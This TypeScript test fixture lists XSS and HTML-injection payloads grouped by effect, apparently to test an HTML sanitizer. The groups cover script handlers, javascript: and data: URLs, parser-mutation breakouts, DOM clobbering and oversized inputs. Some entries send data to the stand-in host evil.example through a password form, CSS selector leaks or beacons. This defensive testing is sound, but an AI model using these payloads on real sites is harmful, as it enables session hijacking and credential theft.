/** HTML that has an effect in a page that inserts it unchanged. */
export interface HostileHtml {
  what: string;
  html: string;
}

type Rows = readonly (readonly [what: string, html: string])[];

const named = (rows: Rows): readonly HostileHtml[] => rows.map(([what, html]) => ({ what, html }));

const SCRIPTS: Rows = [
  ['a script', '<script>window.hit = 1</script>'],
  ['a script in upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a script of this origin', '<script src="/sandbox/x.js"></script>'],
  ['a script within a script tag', '<scr<script>ipt>window.hit = 1</scr</script>ipt>'],
  ['an image that fails', '<img src=x onerror="window.hit = 1">'],
  ['a handler on text', '<p onclick="window.hit = 1" onpointerover=hit=1>x</p>'],
  ['a handler without quotes or blanks', '<b/onmouseover=window.hit=1>x</b>'],
  ['a handler after a line feed', '<b\nonmouseover\n=\nwindow.hit=1>x</b>'],
  ['a handler that takes the focus', '<a href=/x autofocus tabindex=1 onfocus=window.hit=1>x</a>'],
  [
    'a handler of an animation',
    '<p style="animation: spin 1s" onanimationstart=window.hit=1>x</p>',
  ],
  ['a handler of a transition', '<p style="transition: 1s" ontransitionrun=window.hit=1>x</p>'],
  ['a handler of the body', '<body onload=window.hit=1 onpageshow=window.hit=1><p>x</p></body>'],
  [
    'a handler of content that comes into view',
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange=window.hit=1>x</p>',
  ],
  ['an opened disclosure', '<details open ontoggle=window.hit=1><summary>x</summary></details>'],
  ['a video', '<video src=x onerror=window.hit=1><source onerror=window.hit=1></video>'],
  ['a marquee', '<marquee onstart=window.hit=1 loop=1 width=0>x</marquee>'],
  ['an element of one’s own', '<x-evil onfocus=hit=1 tabindex=1 autofocus>x</x-evil>'],
  ['an element that is another', '<p is="x-evil" onclick=window.hit=1>x</p>'],
];

const ADDRESSES: Rows = [
  ['a script address', '<a href="javascript:window.hit=1">x</a>'],
  ['a script address in disguise', '<a href="jAvA&#x09;script&#58;window.hit=1">x</a>'],
  ['a script address by names', '<a href="java&Tab;script&colon;window.hit=1&NewLine;">x</a>'],
  ['a script address after a control character', '<a href="&#1;javascript:window.hit=1">x</a>'],
  ['a script address after an odd blank', '<a href="\u2003\u00a0javascript:window.hit=1">x</a>'],
  ['a script address over several lines', '<a href="java\r\nscript:window.hit=1">x</a>'],
  ['a script address with a null byte', '<a href="java\0script:window.hit=1">x</a>'],
  ['a data address', '<a href="data:text/html,<script>window.hit=1</script>">x</a>'],
  [
    'a data address in base 64',
    '<a href="data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==">x</a>',
  ],
  ['a vbscript address', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a blob address', '<a href="blob:https://evil.example/1">x</a>'],
  ['a file address', '<a href="file:///etc/passwd">x</a>'],
  ['a source view', '<a href="view-source:javascript:window.hit=1">x</a>'],
  ['an address that is asked for besides', '<a href=/x ping=https://evil.example/ping>x</a>'],
  ['a window that keeps a hold', '<a href=https://evil.example target=_blank rel=opener>x</a>'],
  ['a file to keep', '<a href="data:application/x-sh,rm" download="policy.sh">x</a>'],
];

const SECOND_READINGS: Rows = [
  ['a drawing that loads', '<svg onload="window.hit = 1"></svg>'],
  ['a script in a drawing', '<svg><script>window.hit = 1</script></svg>'],
  [
    'a script address in a drawing',
    '<svg><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>',
  ],
  [
    'a script address that is animated in',
    '<svg><a><animate attributeName=href values=javascript:hit=1 /></a></svg>',
  ],
  [
    'a drawing that uses another',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=hit=1>#x"></use></svg>',
  ],
  [
    'a page in a drawing',
    '<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></iframe></foreignObject></svg>',
  ],
  [
    'a paragraph that closes a drawing',
    '<svg></p><style><a id="</style><img src=x onerror=window.hit=1>">',
  ],
  [
    'a title that closes a drawing',
    '<svg><title><style><img src=x onerror=window.hit=1></style></title></svg>',
  ],
  [
    'a description that reads differently',
    '<svg><desc><noscript><img src=x onerror=window.hit=1></noscript></desc></svg>',
  ],
  [
    'formulas that break out',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>',
  ],
  [
    'formulas around a drawing',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=window.hit=1 src=x>">',
  ],
  [
    'a formula that is HTML',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=window.hit=1></style></annotation-xml></math>',
  ],
  [
    'a form within a form',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.hit=1>',
  ],
  ['a comment that breaks out', '<!--><img src=x onerror=window.hit=1>-->'],
  ['a comment that ends early', '<!-- --!><img src=x onerror=window.hit=1> -->'],
  ['a comment about a browser', '<!--[if true]><img src=x onerror=window.hit=1><![endif]-->'],
  ['a section of character data', '<svg><![CDATA[><img src=x onerror=window.hit=1>]]></svg>'],
  ['an instruction', '<?xml-stylesheet href="javascript:window.hit=1"?><p>x</p>'],
  ['a document type', '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=hit=1>">]><p>&y;</p>'],
  ['no script', '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>'],
  ['a text area that breaks out', '<textarea></textarea><img src=x onerror=window.hit=1>'],
  ['a title that breaks out', '<p title="</p><img src=x onerror=window.hit=1>">x</p>'],
  ['plain text without an end', '<xmp><p title="</xmp><img src=x onerror=window.hit=1>"></p>'],
  ['a template', '<template><img src=x onerror=window.hit=1></template>'],
  [
    'a template of a shadow',
    '<div><template shadowrootmode=open><script>hit=1</script><slot></slot></template>x</div>',
  ],
  [
    'templates in templates',
    '<template><template><svg><script>window.hit=1</script></svg></template></template>',
  ],
  [
    'misplaced parts of a table',
    '<table><a href="javascript:window.hit=1"><svg onload=window.hit=1></table>',
  ],
  ['a null byte in a tag', '<scr\0ipt>window.hit=1</scr\0ipt><im\0g src=x onerror=window.hit=1>'],
  [
    'an attribute without an end',
    '<p title="x onmouseover=window.hit=1><img src="https://evil.example/?',
  ],
  ['a tag without an end', '<p>x</p><img src=x onerror=window.hit=1 '],
  [
    'escaped tags',
    '&lt;img src=x onerror=window.hit=1&gt;&lt;script&gt;window.hit=1&lt;/script&gt;',
  ],
];

const REQUESTS: Rows = [
  ['an image of a foreign host', '<img src="https://evil.example/pixel.gif">'],
  [
    'images to choose from',
    '<img srcset="https://evil.example/1.gif 1x, https://evil.example/2.gif 2x">',
  ],
  [
    'a picture',
    '<picture><source srcset=https://evil.example/1.webp><img src=https://evil.example/1></picture>',
  ],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a frame with a document', '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>'],
  ['a frame of this origin', '<iframe src="/login"></iframe>'],
  ['an object', '<object data="javascript:window.hit=1"></object>'],
  ['an embedded thing', '<embed src="https://evil.example/x.swf">'],
  ['frames', '<frameset><frame src="https://evil.example"></frameset>'],
  ['an applet', '<applet code=x archive=https://evil.example/x.jar></applet>'],
  ['a linked style sheet', '<link rel=stylesheet href=https://evil.example/x.css>'],
  [
    'links that fetch ahead',
    '<link rel=preload as=image href=https://evil.example/1><link rel=prefetch href=https://evil.example/2><link rel=dns-prefetch href=//evil.example><link rel=modulepreload href=https://evil.example/3>',
  ],
  ['a base', '<base href="https://evil.example/" target=_top><a href=x>x</a>'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  [
    'a policy of its own',
    '<meta http-equiv=Content-Security-Policy content="script-src *"><meta name=referrer content=unsafe-url>',
  ],
  [
    'a background',
    '<table background="https://evil.example/1"><tr><td background=https://evil.example/2>x</table>',
  ],
  [
    'a sound and its subtitles',
    '<audio src=https://evil.example/1 autoplay><track src=https://evil.example/2></audio>',
  ],
  ['a quotation’s source', '<blockquote cite="javascript:window.hit=1">x</blockquote>'],
  ['a beacon left open', "<img src='https://evil.example/?text="],
];

const LOOKS: Rows = [
  ['a style sheet', '<style>body { display: none }</style>'],
  ['a style sheet that imports', '<style>@import url(https://evil.example/x.css);</style><p>x</p>'],
  [
    'a style sheet that listens',
    '<style>input[value^=a] { background: url(https://evil.example/a) }</style>',
  ],
  [
    'a sheet over the page',
    '<p style="position:fixed;inset:0;z-index:9999;background:white">Log in again</p>',
  ],
  ['a style that loads', '<p style="background:url(https://evil.example/pixel)">x</p>'],
  [
    'a style that computes',
    '<p style="width:expression(window.hit=1);-moz-binding:url(//evil.example)">x</p>',
  ],
  ['a class of ours', '<p class="toast error">Your account is locked</p>'],
  [
    'a role of ours',
    '<div role=alert aria-live=assertive aria-hidden=false>Your account is locked</div>',
  ],
  ['a place in another’s outlet', '<p slot=x part=y popover=manual id=portal-failure>x</p>'],
  ['editable text', '<p contenteditable=true spellcheck=true>Type your password</p>'],
];

const NAMES: Rows = [
  ['a name on the window', '<a id=portal name=config href=/x>x</a>'],
  [
    'two of one name',
    '<a id=portal-live></a><a id=portal-live name=textContent href="javascript:hit=1">x</a>',
  ],
  [
    'a form that hides its children',
    '<form id=x><input name=attributes><input name=childNodes><input name=parentNode></form>',
  ],
  [
    'names of the document’s parts',
    '<img name=body><form name=cookie></form><a id=documentElement>x</a>',
  ],
  ['data of ours', '<p data-portal=running data-scroll-lock data-theme=dark>x</p>'],
  ['a name of every object', '<a id=__proto__></a><a id=constructor name=prototype href=/x>x</a>'],
];

const CONTROLS: Rows = [
  [
    'a form',
    '<form action="https://evil.example"><input name=password><button>Login</button></form>',
  ],
  [
    'a button that sends elsewhere',
    '<form id=f></form><button form=f formaction="javascript:window.hit=1">x</button>',
  ],
  [
    'an image that sends',
    '<form><input type=image src=https://evil.example/1 formaction=//evil.example></form>',
  ],
  [
    'a choice',
    '<select autofocus onfocus=window.hit=1><option>x</select><datalist id=x></datalist>',
  ],
  ['a dialog', '<dialog open><p>Enter your password</p></dialog>'],
  [
    'a popover',
    '<button popovertarget=x>x</button><div id=x popover onbeforetoggle=window.hit=1>x</div>',
  ],
  [
    'a command',
    '<button commandfor=x command=show-modal>x</button><dialog id=x oncommand=hit=1>x</dialog>',
  ],
  ['an access key', '<a href=/x accesskey=x onclick=window.hit=1>x</a>'],
  ['a map', '<map name=m><area href="javascript:window.hit=1" shape=default></map>'],
];

/** By the effect of each in a page that inserts it unchanged: run, load, submit, restyle or deceive. */
export const HOSTILE_HTML = {
  'what runs': named(SCRIPTS),
  'addresses that run': named(ADDRESSES),
  'what reads differently a second time': named(SECOND_READINGS),
  'what loads': named(REQUESTS),
  'what looks like ours': named(LOOKS),
  'what takes our names': named(NAMES),
  'what can be operated': named(CONTROLS),
} as const;

/** HTML that must become inert quickly despite its size. */
export const excessiveHtml = (): readonly HostileHtml[] =>
  named([
    ['50,000 boxes in each other', `${'<div>'.repeat(50_000)}x<img src=x onerror=window.hit=1>`],
    [
      '20,000 emphases in each other',
      `<p>${'<b><i>'.repeat(10_000)}x<script>window.hit=1</script>`,
    ],
    [
      '5,000 attributes',
      `<p ${Array.from({ length: 5_000 }, (_, n) => `on${n}=hit=1`).join(' ')}>x`,
    ],
    [
      '5 MB of text',
      `<p>${'A policy of many words. '.repeat(220_000)}</p><script>window.hit=1</script>`,
    ],
    ['a book of two scripts', `<p>${'नीति and policy. '.repeat(30)}</p>`.repeat(4_000)],
    ['one word of 100,000 letters', `<p>${'x'.repeat(100_000)}</p>`],
  ]);
